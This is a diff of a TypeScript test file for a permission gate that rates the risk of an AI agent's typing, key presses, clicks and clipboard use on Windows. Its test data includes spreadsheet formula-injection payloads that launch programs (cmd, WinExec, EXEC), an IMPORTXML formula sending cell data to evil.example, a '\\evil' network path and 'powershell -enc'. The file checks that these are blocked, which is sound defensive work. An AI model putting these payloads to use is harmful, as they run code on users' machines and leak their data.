@@ -1,11 +1,12 @@
 /** What leaves decides, not the action that lets it out: the same effect by every action, way and delivery that reaches it. */
 import { describe, expect, it } from 'vitest';
 import type { AppIdentity } from '../../../../src/contract/element/binding.ts';
+import { ITEMS, PRESSABLE, type ControlType } from '../../../../src/contract/element/control-types.ts';
 import type { ElementContext } from '../../../../src/contract/element/element.ts';
 import { defaultPolicy, type Policy, type RiskTag } from '../../../../src/contract/gate/permissions.ts';
 import { exitsOf } from '../../../../src/contract/ways/exits.ts';
 import { passGate } from '../../../../src/policy/gate/gate.ts';
-import type { TypedLately } from '../../../../src/policy/risk/content/typed-text.ts';
+import type { LeftBehind } from '../../../../src/policy/risk/content/keyboard.ts';
 import type { GateSubject } from '../../../../src/policy/gate/gate-types.ts';
 import {
   call,
@@ -15,10 +16,12 @@ import {
   context,
   element,
   failure,
+  MAIL,
   NOTEPAD,
   TERMINAL,
   testWorld,
   type TestWorld,
+  TRADER,
 } from '../world.ts';
 import { wordsOf } from '../../../support/words.ts';
 
@@ -27,25 +30,32 @@ const EXPLORER = installed('C:\\Windows\\explorer.exe', 'Explorer');
 const IDEA = installed('C:\\Program Files\\JetBrains\\bin\\idea64.exe', 'IntelliJ IDEA');
 const UNKNOWN = installed('C:\\Tools\\console-like.exe', 'Tool');
 
+const NO_MORE = { automationId: '', isPassword: false, isInMenu: false, isInComboBox: false };
+
 interface Place {
   readonly app?: AppIdentity;
   readonly className?: string;
   readonly policy?: Partial<Policy>;
-  readonly typed?: TypedLately;
+  readonly left?: LeftBehind;
+  /** What is on the clipboard. */
+  readonly clipboard?: string;
+  readonly hasRead?: boolean;
 }
 
 /** At level `full`, as shipped, with the flags that typing needs. */
 function at(
   seen: ElementContext | null,
-  { app: of = NOTEPAD, className = 'Main', policy = {}, typed }: Place = {},
+  { app: of = NOTEPAD, className = 'Main', policy = {}, left, clipboard = '', hasRead = false }: Place = {},
 ): TestWorld {
   const world = testWorld({
     policy: { ...defaultPolicy('full'), flags: ['clipboardWrite'], ...policy },
     app: of,
     seen,
-    ...(typed === undefined ? {} : { typed }),
+    ...(left === undefined ? {} : { left }),
   });
   world.live = bound(of, { className });
+  world.clipboardNow = clipboard;
+  if (hasRead) world.left.noteRead();
   return world;
 }
 
@@ -83,7 +93,8 @@ describe('[exit.keys] text that a way sends as keys is judged as keys', () => {
 
   it('a field that takes it as text presses nothing; a surface that takes characters may', async () => {
     const one = call('typeIntoElement', { name: 'Reason', text: 'x\n' });
-    expect(await result(one, at(DANGEROUS))).toBeNull();
+    const { permit } = await passGate(one, at(DANGEROUS));
+    expect(permit.target).toMatchObject({ question: [], defaultButton: 'Delete', dialogTitle: 'Delete the account?' });
     for (const takes of ['custom', 'characters'] as const) {
       const seen = { ...DANGEROUS, receiver: { family: 'control', part: 'plain', takes } } as const;
       expect(await result(one, at(seen))).toContain('destructive');
@@ -143,19 +154,12 @@ describe('[exit.keyboard] what earlier calls left on the keyboard counts for the
     ]) {
       const first = at(FIELD);
       await passGate(call('key', { keySequence: 'alt' }), first);
-      const elsewhere = at(FIELD, { typed: first.typed.of('another') });
+      const elsewhere = at(FIELD, { left: first.left.of('another') });
       elsewhere.live = bound(NOTEPAD, { hwnd: '77' });
       await passGate(meanwhile, elsewhere);
-      const later = at(FIELD, { typed: first.typed.of('a third') });
+      const later = at(FIELD, { left: first.left.of('a third') });
       expect(await result(call('type', { text: 'hdr' }), later)).toContain('destructive');
     }
-  });
-
-  it('a press by a pattern or a message closes no menu', async () => {
-    const world = at(FIELD);
-    await passGate(call('key', { keySequence: 'alt' }), world);
-    await passGate(call('clickElement', { name: 'Notes' }), world);
-    expect(await result(call('type', { text: 'hdr' }), world)).toContain('destructive');
   });
 
   it('Escape and a click with the real pointer end that, and a field with the focus does once keys went to the menu', async () => {
@@ -165,6 +169,9 @@ describe('[exit.keyboard] what earlier calls left on the keyboard counts for the
     ]) {
       const world = at(FIELD);
       (await passGate(call('key', { keySequence: 'alt' }), world)).succeeded();
+      // A press by a pattern or a message closes none.
+      (await passGate(call('clickElement', { name: 'Notes' }), world)).succeeded();
+      expect(await result(call('type', { text: 'hdr' }), world)).toContain('destructive');
       (await passGate(end, world)).succeeded();
       expect(await result(call('type', { text: 'hdr' }), world)).toBeNull();
     }
@@ -203,7 +210,8 @@ describe('[exit.formula] a formula is judged by whatever way it reaches a spread
   const CELL = context(element('DataItem', 'A1'));
   const BAR = context(element('Edit', 'Formula Bar'));
   const NOWHERE = context(null);
-  const ways = (text: string): ReadonlyArray<readonly GateSubject[]> => [
+  /** Each with what the field holds and the clipboard has as it is sent. */
+  const ways = (text: string): ReadonlyArray<readonly [GateSubject, held?: string]> => [
     [call('writeCell', { name: 'Grid', row: 0, column: 0, text })],
     [call('typeIntoElement', { name: 'A1', text })],
     [call('typeIntoElement', { name: 'A1', text, delivery: 'foreground' })],
@@ -211,21 +219,15 @@ describe('[exit.formula] a formula is judged by whatever way it reaches a spread
     [call('type', { text })],
     [call('type', { text, viaClipboard: true })],
     [call('virtualKeyboard', { action: 'type', text })],
-    [call('writeClipboard', { text }), call('key', { keySequence: 'ctrl+v' })],
-    [call('writeClipboard', { text }), call('virtualKeyboard', { action: 'combo', text: 'shift+insert' })],
-    [call('type', { text: text.slice(0, 1) }), call('type', { text: text.slice(1) })],
-    [call('key', { keySequence: '=' }), call('type', { text: text.slice(1) })],
+    [call('key', { keySequence: 'ctrl+v' })],
+    [call('virtualKeyboard', { action: 'combo', text: 'shift+insert' })],
+    [call('type', { text: text.slice(1) }), text.slice(0, 1)],
+    [call('key', { keySequence: '=' }), text.slice(1)],
     [call('type', { text: `a\t${text}` })],
   ];
-  const run = async (all: readonly GateSubject[], seen: ElementContext): Promise<unknown> => {
-    let world = at(seen, { app: EXCEL });
-    let last: unknown = null;
-    // Each call in a session of its own: an agent chooses their names.
-    for (const [index, one] of all.entries()) {
-      world = at(seen, { app: EXCEL, typed: world.typed.of(`tok_${index}`) });
-      last = await result(one, world);
-    }
-    return last === null ? (world.records.at(-1)?.riskTags ?? []) : last;
+  const run = async ([one, held]: readonly [GateSubject, held?: string], seen: ElementContext, text: string) => {
+    const world = at(held === undefined ? seen : { ...seen, held }, { app: EXCEL, clipboard: text });
+    return (await result(one, world)) ?? world.records.at(-1)?.riskTags ?? [];
   };
 
   it.each(["=cmd|' /c calc'!A0", '=CALL("kernel32","WinExec","JCJ","calc",0)', '=EXEC("calc")', '=REGISTER("a","b")'])(
@@ -233,7 +235,7 @@ describe('[exit.formula] a formula is judged by whatever way it reaches a spread
     async (formula) => {
       for (const seen of [CELL, BAR, NOWHERE])
         for (const way of ways(formula))
-          expect(await run(way, seen), JSON.stringify(way.map(({ input }) => input))).toBe('blocked_by_policy');
+          expect(await run(way, seen, formula), JSON.stringify(way[0].input)).toBe('blocked_by_policy');
     },
   );
 
@@ -241,32 +243,24 @@ describe('[exit.formula] a formula is judged by whatever way it reaches a spread
     '%s carries external_submit',
     async (formula) => {
       for (const way of ways(formula))
-        expect(await run(way, CELL), JSON.stringify(way.map(({ input }) => input))).toContain('external_submit');
+        expect(await run(way, CELL, formula), JSON.stringify(way[0].input)).toContain('external_submit');
     },
   );
 
-  it('what was typed or copied before counts until what replaces it was delivered', async () => {
-    const rest = call('type', { text: "cmd|' /c calc'!A0" });
-    const paste = call('key', { keySequence: 'ctrl+v' });
-    const formula = "=cmd|' /c calc'!A0";
-    const rows: ReadonlyArray<readonly [first: GateSubject, failing: GateSubject, last: GateSubject]> = [
-      [call('type', { text: '=' }), call('typeIntoElement', { name: 'A1', text: 'x' }), rest],
-      [call('type', { text: '=' }), call('type', { text: 'x\n' }), rest],
-      [call('key', { keySequence: '=' }), call('key', { keySequence: 'enter' }), rest],
-      [call('writeClipboard', { text: formula }), call('writeClipboard', { text: 'hello' }), paste],
-    ];
-    for (const [first, failing, last] of rows) {
-      // Written while it is in another program, where it is only text.
-      const before = first.action === 'writeClipboard' ? at(NOWHERE) : at(CELL, { app: EXCEL });
-      (await passGate(first, before)).succeeded();
-      const world = at(CELL, { app: EXCEL, typed: before.typed });
-      const name = JSON.stringify(failing.input);
-      await passGate(failing, world);
-      for (let more = 0; more < 40; more += 1) await passGate(failing, world);
-      expect(await result(last, world), name).toBe('blocked_by_policy');
-      (await passGate(failing, world)).succeeded();
-      if (last === paste) expect(await result(last, world), name).not.toBe('blocked_by_policy');
-    }
+  it('what starts programs is asked in any other field, whatever begins it', async () => {
+    for (const text of ["=cmd|' /c calc'!A0", "+cmd|' /c calc'!A0", "@cmd|' /c calc'!A0", "-2+3+cmd|' /c calc'!A0"])
+      for (const [one, held] of ways(text).slice(1, -3))
+        for (const seen of [context(element('Pane', '')), BAR]) {
+          const world = at(held === undefined ? seen : { ...seen, held }, { app: UNKNOWN, clipboard: text });
+          expect(await result(one, world), `${text} ${JSON.stringify(one.input)}`).toContain('customCommand');
+        }
+  });
+
+  it('what was typed earlier, and what is on the clipboard but not pasted, is not remembered', async () => {
+    const first = at(CELL, { app: EXCEL });
+    await passGate(call('type', { text: '=' }), first);
+    const later = at(CELL, { app: EXCEL, left: first.left, clipboard: "=cmd|' /c calc'!A0" });
+    expect(await result(call('type', { text: "cmd|' /c calc'!A0" }), later)).toBeNull();
   });
 
   it('more names than are looked up are refused', async () => {
@@ -320,9 +314,10 @@ describe('[exit.path] a path to another machine is asked wherever it is typed', 
   }
 
   it('in pieces too, and programs and startup folders where files are saved', async () => {
-    const world = at(FIELDS[0]![1], FIELDS[0]![2]);
-    await passGate(call('type', { text: '\\\\evil' }), world);
+    const world = at({ ...FIELDS[0]![1], held: '\\\\evil' }, FIELDS[0]![2]);
     expect(await result(call('type', { text: '\\share\\x' }), world)).toContain('external_submit');
+    const shown = at({ ...FIELDS[0]![1], held: '\\\\evil\\share\\x' }, FIELDS[0]![2]);
+    expect(await result(call('typeIntoElement', { name: 'x', text: 'plan.txt' }), shown)).toBeNull();
     for (const text of [
       'C:\\x\\evil.bat',
       'report.lnk',
@@ -452,7 +447,7 @@ describe('[exit.start] starting a program is known by what would happen', () => 
       for (const second of PRESSES) {
         const world = at(item('invoice'), folder);
         await passGate(first, world);
-        const later = at(item('invoice'), { ...folder, typed: world.typed.of('another') });
+        const later = at(item('invoice'), { ...folder, left: world.left.of('another') });
         const name = `${JSON.stringify(first.input)} ${second.action}`;
         expect(await result(second, later), name).toContain('customCommand');
       }
@@ -479,71 +474,121 @@ describe('[exit.start] starting a program is known by what would happen', () => 
   });
 });
 
-describe('[exit.formula] a formula whose text is not known as a whole', () => {
-  const CELL = context(element('DataItem', 'A1'));
-  const EDITOR = context(element('Edit', 'EDIT6'));
-  const keys = (keySequence: string): GateSubject => call('key', { keySequence });
-  const type = (text: string): GateSubject => call('type', { text });
-  const SPREADSHEETS = [
-    EXCEL,
-    installed('C:\\Program Files\\LibreOffice\\program\\soffice.bin', 'LibreOffice Calc'),
-    installed('C:\\Program Files\\WPS\\wps.exe', 'WPS'),
+describe('[scope.surface] text into a sheet, a page, a chat, a launcher or a drawn surface', () => {
+  const title = (dialogTitle: string): Partial<ElementContext> => ({ dialogTitle });
+  const page = (address: string): Partial<ElementContext> => ({ address, document: { kind: 'page', address } });
+  const granted = { grants: [{ app: CHROME.bundleId, tier: 'full' as const }] };
+  /** What it shows, and what it shows next. */
+  const SURFACES: ReadonlyArray<readonly [string, AppIdentity, ElementContext, Partial<ElementContext>]> = [
+    ['a sheet', EXCEL, context(element('DataItem', 'A1'), title('Plan.xlsx - Excel')), title('Other.xlsx - Excel')],
+    ['a page', CHROME, context(element('Edit', 'Find'), page('https://a.example/1')), page('https://a.example/2')],
+    ['a chat', MAIL, context(element('Document', 'Text'), title('Write: to Ada')), title('Write: to Bob')],
+    ['a folder window', EXPLORER, context(element('Edit', 'Address'), title('Documents')), title('Music')],
+    ['a drawn surface', UNKNOWN, context(element('Pane', ''), title('Board 1')), title('Board 2')],
   ];
-  /** Each call in a session of its own; the field that has the focus is another one once the entry began. */
-  const last = async (calls: readonly GateSubject[], of: AppIdentity, isDelivered: boolean): Promise<unknown> => {
-    let typed: TypedLately | undefined;
-    let found: unknown = null;
-    for (const [index, one] of calls.entries()) {
-      const world = at(index === 0 ? CELL : EDITOR, { app: of, ...(typed === undefined ? {} : { typed }) });
-      const before = world.cards.length;
-      const passed = await passGate(one, world);
-      if (isDelivered) passed.succeeded();
-      found = world.cards.length > before ? world.cards.at(-1)!.riskTags : null;
-      typed = world.typed.of(`tok_${index}`);
+  const FILLING: readonly GateSubject[] = [
+    call('type', { text: 'words' }),
+    call('key', { keySequence: 'right down' }),
+    call('typeIntoElement', { name: 'x', text: 'more words', mode: 'append' }),
+    call('virtualKeyboard', { action: 'type', text: '=A1' }),
+  ];
+  it.each(SURFACES)('%s: one answer covers text and moving keys until it shows another', async (_, app, seen, next) => {
+    for (const first of FILLING) {
+      const world = at(seen, { app, policy: { level: 'control' } });
+      const asks = async (one: GateSubject): Promise<boolean> => (await result(one, world)) !== null;
+      world.answer = () => ({ scope: 'window', minutes: 60 });
+      expect(await asks(first)).toBe(true);
+      expect(world.cards[0]?.covers?.find(({ scope }) => scope === 'window')?.text).toMatch(
+        /may enter formulas, and text that leaves/,
+      );
+      world.answer = () => ({});
+      for (const one of FILLING) expect(await asks(one), JSON.stringify([first.input, one.input])).toBe(false);
+      for (const keySequence of ['enter', 'tab', 'ctrl+v']) expect(await asks(call('key', { keySequence }))).toBe(true);
+      for (const text of ['x\n', 'x\t']) expect(await asks(call('type', { text })), text).toBe(true);
+      world.seen = { ...seen, ...next };
+      for (const one of FILLING) expect(await asks(one), JSON.stringify(one.input)).toBe(true);
+      world.seen = { ...seen, element: element('Button', 'OK') };
+      expect(await asks(FILLING[0]!)).toBe(true);
     }
-    return found;
-  };
-  const EDITS = ['left', 'home', 'backspace', 'delete', 'ctrl+left', 'ctrl+z', 'shift+home', 'up'];
-  it.each(EDITS)('asks for what follows %s, and for the key that finishes it', async (edit) => {
-    for (const of of SPREADSHEETS)
-      for (const isDelivered of [true, false])
-        for (const end of [type('ALL'), keys('enter'), keys('tab'), type('\n'), call('clickElement', { name: 'B2' })]) {
-          const calls = [type('=C("k","W")'), keys(edit), end];
-          expect(await last(calls, of, isDelivered), JSON.stringify(end.input)).toContain('customCommand');
-        }
-    const inOne = keys(`= C left A enter`.replace('left', edit));
-    expect(await last([inOne], EXCEL, true)).toContain('customCommand');
   });
 
-  it('asks where a formula begins before what the cell holds', async () => {
-    for (const begin of ['=', '+', '-', '@', '=1+'])
-      expect(await last([keys('f2'), keys('home'), type(begin)], EXCEL, true), begin).toContain('customCommand');
+  it.each(SURFACES)('%s: at full it asks after reading alone, and while sending always asks', async (_, app, seen) => {
+    const [text, moving] = FILLING as [GateSubject, GateSubject];
+    const place: Place = { app, policy: app === CHROME ? granted : {} };
+    const without = { ...place, policy: { ...place.policy, alwaysAsk: ['destructive' as const] }, hasRead: true };
+    expect(await result(text, at(seen, place))).toBeNull();
+    expect((await result(text, at(seen, { ...place, hasRead: true }))) !== null).toBe(app !== CHROME);
+    expect(await result(moving, at(seen, { ...place, hasRead: true }))).toBeNull();
+    expect(await result(text, at(seen, without))).toBeNull();
+    const browser = at(seen, { app: CHROME, policy: { level: 'full' } });
+    browser.answer = () => ({ scope: 'session' });
+    for (const isAsked of [true, false]) expect((await result(text, browser)) !== null).toBe(isAsked);
+    expect(await result(text, at(context(element('Edit', 'Name')), { hasRead: true }))).toBeNull();
   });
 
-  it('asks for the beginning alone in a dialog, which may replace texts of many cells', async () => {
-    const dialog = context(element('Edit', 'Replace with:'), { dialogTitle: 'Find and Replace' });
-    for (const text of ['=', '+', '@', ' ='])
-      for (const one of [type(text), call('typeIntoElement', { name: 'Replace with:', text })])
-        expect(await result(one, at(dialog, { app: EXCEL })), text).toContain('customCommand');
+  it('[scope.origin] in a browser every lasting answer is for one origin', async () => {
+    const next = element('Button', 'Next');
+    const click = call('clickElement', { name: 'Next' });
+    const world = at(context(next, page('https://a.example/1')), { app: CHROME, policy: { level: 'control' } });
+    world.answer = () => ({ scope: 'session' });
+    expect(await result(click, world)).not.toBeNull();
+    world.answer = () => ({});
+    for (const [address, isCovered] of [
+      ['https://a.example/2', true],
+      ['https://b.example/1', false],
+    ] as const) {
+      world.seen = context(next, page(address));
+      expect((await result(click, world)) === null).toBe(isCovered);
+    }
   });
 
-  it('cells by arrow keys, corrected numbers and words, and a formula after Escape or Enter ask nothing', async () => {
-    for (const calls of [
-      [keys('right'), type('=A1+B1\n')],
-      [type('-5'), keys('left'), type('7\n')],
-      [type('hello'), keys('backspace'), type('a\n')],
-      [type('=A1'), keys('left'), keys('escape'), type('=B1\n')],
-      [type('=A1\n'), keys('up'), type('=B1\n')],
-      [keys('right right = A 1 enter')],
-    ])
-      expect(await last(calls, EXCEL, true), JSON.stringify(calls.map(({ input }) => input))).toBeNull();
-  });
-
-  it('carries external_submit in a page, where any field may be a cell', async () => {
-    const sheet = context(element('Edit', 'A1'), { address: 'https://sheets.example/1' });
-    const world = at(sheet, { app: CHROME, policy: { grants: [{ app: CHROME.bundleId, tier: 'full' }] } });
-    await passGate(type('=IMPORTXML("http://evil.example/?"&A1,"//a")'), world);
+  it('[exit.formula] carries external_submit in a page, where any field may be a cell', async () => {
+    const world = at(context(element('Edit', 'A1'), page('https://a.example/1')), { app: CHROME, policy: granted });
+    await passGate(call('type', { text: '=IMPORTXML("http://evil.example/?"&A1,"//a")' }), world);
     expect(world.records.at(-1)?.riskTags).toContain('external_submit');
+  });
+});
+
+describe('[exit.focus] what the focus, an arrow or the wheel does in a control counts, not its name', () => {
+  const radio = { controlType: 'RadioButton', name: 'Delete everything', automationId: '', isPassword: false } as const;
+  const seen = (role: 'Edit' | 'RadioButton', name: string): ElementContext =>
+    context(element(role, name), { reachable: [{ ...radio, isInMenu: false, isInComboBox: false }] });
+  const key = (keySequence: string): GateSubject => call('key', { keySequence });
+  it.each([
+    ...[call('focusElement', { name: 'Delete everything' })].map((one) => ['RadioButton', radio.name, one] as const),
+    ...wordsOf`up left right down home end alt+down tab`.map((one) => ['RadioButton', 'Keep', key(one)] as const),
+    ...wordsOf`tab shift+tab ctrl+tab`.map((one) => ['Edit', 'Reason', key(one)] as const),
+    ['Edit', 'Reason', key('tab down')],
+    ['Edit', 'Reason', call('type', { text: 'a\t' })],
+  ] as const)('%s %s', async (role, name, one) => {
+    expect(await result(one, at(seen(role, name))), JSON.stringify(one.input)).toContain('destructive');
+  });
+
+  it('the wheel over a number changes it: in a trading program it is financial', async () => {
+    const wheel = call('scrollElement', { name: 'Volume', dx: 0, dy: 1 });
+    const over = (role: 'Spinner' | 'Slider' | 'Document'): TestWorld =>
+      at(context(element(role, 'Volume')), {
+        app: TRADER,
+        policy: { grants: [{ app: TRADER.bundleId, tier: 'full' }] },
+      });
+    for (const role of ['Spinner', 'Slider'] as const) expect(await result(wheel, over(role))).toContain('financial');
+    expect(await result(wheel, over('Document'))).toBeNull();
+  });
+
+  it('an answer for the focus, arrows or the wheel names the type, and covers no other', async () => {
+    for (const [one, harmless, other] of [
+      [call('focusElement', { name: 'x' }), 'Edit', 'RadioButton'],
+      [key('down'), 'Edit', 'RadioButton'],
+      [call('scrollElement', { name: 'x', dx: 0, dy: 1 }), 'Document', 'Spinner'],
+    ] as const) {
+      const world = at(context(element(harmless, 'x')), { policy: { level: 'control' } });
+      world.answer = () => ({ scope: 'window', minutes: 60 });
+      expect(await result(one, world)).not.toBeNull();
+      world.answer = () => ({});
+      expect(await result(one, world)).toBeNull();
+      world.seen = context(element(other, 'x'));
+      expect(await result(one, world), other).not.toBeNull();
+    }
   });
 });
 
@@ -583,6 +628,8 @@ describe('[exit.path] a path in any of its spellings', () => {
     'a.library-ms',
     'powershell -enc AAAA',
     'C:\\Windows\\System32\\rundll32.exe x.dll,y',
+    'C:\\work\\.git\\hooks\\pre-commit',
+    ...wordsOf`.mcp.json .gitconfig .vscode/tasks.json tasks.json package.json Makefile x.csproj a.docm b.xlsm c.mjs`,
   ])('%s is a program, or is started by Windows', async (path) => {
     for (const one of WAYS(path))
       expect(await result(one, at(dialog, { className: '#32770' })), one.action).toContain('customCommand');
@@ -592,16 +639,107 @@ describe('[exit.path] a path in any of its spellings', () => {
 describe('[exit.start] programs in other places', () => {
   const item = (name: string): ElementContext => context(element('ListItem', name));
   const MANAGERS = ['totalcmd64.exe', '7zFM.exe', 'doublecmd.exe'].map((file) => installed(`C:\\Tools\\${file}`, file));
-  it.each(['setup.exe', 'run.bat', 'a.lnk', 'report.msi', 'invoice.exe, 12 kB'])('%s in any list', async (name) => {
-    for (const of of [...MANAGERS, UNKNOWN, NOTEPAD])
-      for (const one of [
-        call('clickElement', { name, count: 2 }),
-        call('click', { x: 1, y: 1, count: 2 }),
-        call('key', { keySequence: 'enter' }),
-      ])
-        expect(await result(one, at(item(name), { app: of })), `${of.displayName} ${one.action}`).toContain(
-          'customCommand',
-        );
+  const TEAMS = installed('C:\\Tools\\ms-teams.exe', 'Teams');
+  const granted = { grants: [{ app: CHROME.bundleId, tier: 'full' as const }] };
+  it.each(wordsOf`setup.exe run.bat a.lnk invoice.iso invoice.js x.ps1 a.cpl a.msc a.chm a.url a.xlsm`)(
+    '%s, whatever control names it',
+    async (file) => {
+      const presses = [{ count: 2 }, { delivery: 'foreground', count: 2 }, {}].map((more) =>
+        call('clickElement', { name: 'x', ...more }),
+      );
+      const enter = call('key', { keySequence: 'enter' });
+      const roles = wordsOf`Button SplitButton Hyperlink MenuItem CheckBox Image Text Custom Group ListItem DataItem`;
+      for (const name of [file, `Open ${file}`, `${file}, 2 KB`])
+        for (const of of [UNKNOWN, NOTEPAD, TEAMS, CHROME])
+          for (const role of [...roles, 'TreeItem'] as ControlType[])
+            for (const one of PRESSABLE.has(role) || ITEMS.has(role) ? [...presses, enter] : presses)
+              expect(
+                await result(one, at(context(element(role, name)), { app: of, policy: granted })),
+                `${name} ${of.displayName} ${role} ${JSON.stringify(one.input)}`,
+              ).toContain('customCommand');
+      for (const of of MANAGERS)
+        for (const one of [presses[0]!, enter])
+          expect(await result(one, at(item(file), { app: of }))).toContain('customCommand');
+    },
+  );
+
+  it('not where it is shown alone: a tab or field, an editor’s list, a page from the network, a domain', async () => {
+    const web = { address: 'https://a.example/', document: { kind: 'page', address: 'https://a.example/' } } as const;
+    for (const [role, name, of, more] of [
+      ['TabItem', 'setup.py', NOTEPAD, {}],
+      ['Edit', 'setup.py', NOTEPAD, {}],
+      ['TreeItem', 'setup.py', IDEA, {}],
+      ['Hyperlink', 'setup.py', CHROME, web],
+      ['ListItem', 'setup.py', CHROME, web],
+      ['Button', 'example.com', NOTEPAD, {}],
+      ['Button', 'a.exe.txt', NOTEPAD, {}],
+    ] as const) {
+      const world = at(context(element(role, name), more), { app: of, policy: granted });
+      expect(await result(call('clickElement', { name: 'x' }), world), `${role} ${name}`).toBeNull();
+    }
+  });
+
+  it('keys that move to another item before they open it', async () => {
+    const plan = context(element('ListItem', 'plan.pdf'), {
+      fileType: 'PDF File',
+      reachable: [
+        { controlType: 'ListItem', name: 'invoice.exe, 2 KB', ...NO_MORE },
+        { controlType: 'ListItem', name: 'b.exe', ...NO_MORE },
+      ],
+    });
+    const { fileType: _, ...mail } = plan;
+    for (const [seen, of] of [
+      [plan, EXPLORER],
+      [mail, MAIL],
+    ] as const)
+      for (const one of [call('key', { keySequence: 'down enter' }), call('type', { text: 'b\n' })])
+        expect(await result(one, at(seen, { app: of })), of.displayName).toContain('customCommand');
+  });
+
+  it('a yes, Enter and the menus of programs that start others, and a browser’s downloads and tools', async () => {
+    const program = (file: string): AppIdentity => installed(`C:\\Windows\\${file}`, file);
+    const click = call('clickElement', { name: 'x' });
+    const menu = call('selectElement', { name: 'x', item: 'Action > Run' });
+    const enter = call('key', { keySequence: 'enter' });
+    const enters = [
+      enter,
+      call('type', { text: 'calc\n' }),
+      call('virtualKeyboard', { action: 'combo', text: 'enter' }),
+    ];
+    const field = context(element('Edit', 'Program/script:'), { defaultButtonName: 'OK' });
+    const button = (name: string): ElementContext => context(element('Button', name));
+    const rows: Array<readonly [GateSubject, ElementContext, Place]> = [];
+    for (const of of wordsOf`mmc.exe regedit.exe msconfig.exe openwith.exe`.map(program))
+      for (const className of ['#32770', 'WindowsForms10.Window.8']) {
+        const place = { app: of, className };
+        for (const name of ['OK', 'Apply', 'Finish', '']) rows.push([click, button(name), place]);
+        rows.push([click, context(element('MenuItem', 'Export')), place]);
+        rows.push([menu, context(element('MenuBar', 'Menu')), place], [enter, button('OK'), place]);
+        for (const one of enters) rows.push([one, field, place]);
+      }
+    for (const name of ['Open', 'Open file', 'Keep', 'Behalten', 'setup.exe'])
+      for (const role of ['Button', 'MenuItem'] as const)
+        rows.push([click, context(element(role, name)), { app: CHROME, policy: granted }]);
+    for (const seen of [
+      context(element('Edit', 'x'), { address: 'devtools://devtools/x.html' }),
+      context(element('Edit', 'x'), { dialogTitle: 'DevTools - a.example/' }),
+      context(element('Edit', 'Console prompt')),
+    ])
+      for (const one of enters) rows.push([one, seen, { app: CHROME, policy: granted }]);
+    const bar = context(element('Edit', 'Address and search bar'), { document: { kind: 'none', address: null } });
+    for (const one of [
+      call('type', { text: 'javascript:x' }),
+      call('typeIntoElement', { name: 'x', text: 'javascript:x' }),
+    ])
+      rows.push([one, bar, { app: CHROME, policy: granted }]);
+    rows.push([call('type', { text: 'script:x' }), { ...bar, held: 'java' }, { app: CHROME, policy: granted }]);
+    for (const [one, seen, place] of rows)
+      expect(
+        await result(one, at(seen, place)),
+        `${JSON.stringify(one.input)} ${place.app?.displayName} ${seen.element?.name}`,
+      ).toContain('customCommand');
+    for (const name of ['Cancel', 'Help'])
+      expect(await result(click, at(button(name), { app: program('mmc.exe'), className: '#32770' })), name).toBeNull();
   });
 
   it('the command line of a file manager', async () => {
